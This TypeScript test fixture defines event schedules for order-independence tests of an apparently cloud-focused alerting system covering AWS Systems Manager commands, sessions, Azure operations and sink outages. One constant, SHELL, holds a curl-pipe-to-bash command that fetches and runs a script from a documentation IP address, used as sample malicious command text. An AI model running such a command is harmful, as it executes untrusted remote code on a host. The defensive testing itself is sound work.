import type { Activity } from '../../shared/model/activity'
import { MINUTE } from '../../shared/model/time'
import { machines, nativeCommandEvent, processEvent, sendCommandEvent, startSessionEvent } from '../support/aws-events'
import { message, processEvent as azureProcessEvent, stages, uuid } from '../support/azure-events'
import type { Story } from '../support/schedule'

/**
 * A story, and what its order of arrival decides. All its schedules are compared with the serial one.
 *
 * To add a story, put its name and its deliveries, in the order in which they happened, at the end of the list, with
 * `same: /./`. Run many schedules of it (RUNWARDEN_SCHEDULES=1-2000). Leave out of `same` what depends on the order by
 * design; name in `exempt`, with the reason, what the code does not keep yet.
 */
export interface ScheduledStory extends Story {
  /** Keys of what is known alike in the end, whatever came first. */
  readonly same?: RegExp | undefined
  /** Which of its activities show what a window holds depends on the order: its callers are compared instead. */
  readonly isGrouped?: boolean
  readonly exempt?: readonly ('severity' | 'findings')[]
}

const COMMAND = uuid(0xc1)
const SHELL = 'curl -s http://203.0.113.9/setup.sh | bash'

const call = sendCommandEvent({ commandId: COMMAND })
const native = nativeCommandEvent(COMMAND, [SHELL])
const processOf = (time?: string): unknown => processEvent(COMMAND, time).detail
const callOn = (second: number, session: string, instances: readonly string[]): unknown =>
  sendCommandEvent({ session, instances, time: `2026-03-02T10:00:0${second}Z` })
const sessions = ['Alpha', 'Beta', 'Gamma', 'Delta'].map((role, second) =>
  startSessionEvent(machines(1)[0]!, { role, time: `2026-03-02T10:00:0${second}Z` }),
)
const foreign = stages({ callerTenant: uuid(99) }).map((record) => message(record))

/** Systems Manager is too busy to answer for ten minutes. */
const lateText = (activity: Activity, at: number): Activity => ({
  ...activity,
  payload: at < 10 * MINUTE ? { kind: 'hidden', reason: 'throttled', again: true } : { kind: 'text', text: SHELL },
})

export const STORIES: readonly ScheduledStory[] = [
  {
    name: 'a call and its native events',
    deliveries: [call, native, nativeCommandEvent(COMMAND, [SHELL], '2026-03-02T10:00:02Z')],
    same: /^(window|call)/,
  },
  { name: 'a call and its native event', deliveries: [call, native], same: /^(window|call)/ },
  { name: 'a native event whose call never comes', deliveries: [native], same: /./ },
  { name: 'a call and the process it started', deliveries: [call, processOf()], same: /^(window|term|call)/ },
  {
    name: 'a call and the processes it started',
    deliveries: [call, processOf(), processOf('2026-03-02T10:00:07.500Z')],
    same: /^(window|term|call)/,
  },
  {
    name: 'a call, its native event and its process',
    deliveries: [call, native, processOf()],
    same: /^(window|call)/,
    // Not yet: a call that is judged again with its text forgets the process that confirmed it.
    exempt: ['severity', 'findings'],
  },
  { name: 'a process whose call never comes', deliveries: [processOf()], sinks: ['mail', 'chat'], same: /./ },
  {
    name: 'two calls that one alert stands for',
    deliveries: [callOn(0, 'session-1', machines(1, 'a')), callOn(1, 'session-2', machines(1, 'a'))],
    same: /^(window|term|call)/,
    isGrouped: true,
  },
  {
    name: 'a call that makes an alert grow',
    deliveries: [callOn(0, 'session-1', machines(1, 'a')), callOn(1, 'session-2', machines(4, 'b'))],
    same: /^(window|call)/,
    isGrouped: true,
  },
  {
    name: 'two sessions of one caller, and more machines with each call',
    deliveries: [
      callOn(0, 'session-1', machines(1, 'a')),
      callOn(1, 'session-2', machines(1, 'a')),
      callOn(2, 'session-1', machines(4, 'b')),
      callOn(3, 'session-2', machines(1, 'c')),
    ],
    same: /^(window|call)/,
    isGrouped: true,
  },
  {
    name: 'the stages of an Azure operation',
    deliveries: foreign,
    same: /^fold/,
    // Not yet: of two stages that are judged at once, who knows less may write the record last.
    exempt: ['findings'],
  },
  {
    name: 'an Azure operation and its process',
    deliveries: [...stages().map((record) => message(record)), azureProcessEvent()],
    same: /^fold/,
    // As above; and who knows more believes that it was sent.
    exempt: ['severity', 'findings'],
  },
  {
    name: 'an Azure operation that is judged at its end',
    deliveries: foreign,
    settings: { alertOn: 'success' },
    same: /^fold/,
    // As above.
    exempt: ['findings'],
  },
  {
    name: 'an Azure operation whose end never comes',
    deliveries: foreign.slice(0, 1),
    settings: { alertOn: 'success' },
    same: /./,
  },
  { name: 'a call whose text comes late', deliveries: [call], text: lateText, same: /./ },
  {
    name: 'a sink that fails for twelve minutes',
    deliveries: sessions.slice(0, 2),
    sinks: ['mail', 'chat'],
    outage: { calls: /^chat/, minutes: 12 },
    same: /./,
  },
  {
    name: 'a mail that fails for three minutes, and no other sink',
    deliveries: [call, native, sessions[1]],
    outage: { calls: /^mail/, minutes: 3 },
    same: /^(window|call)/,
  },
  {
    name: 'more alerts than may be sent in an hour',
    deliveries: sessions,
    settings: { maxAlertsPerHour: 1 },
    same: /^(window|term|ledger|activity|call)/,
  },
  {
    name: 'a store that fails for two minutes',
    deliveries: [call, native, sessions[1]],
    outage: { calls: /^state/, minutes: 2 },
    // When the mark of the call alone is refused, nobody notices: its native event is judged without a caller.
    exempt: ['findings'],
  },
]
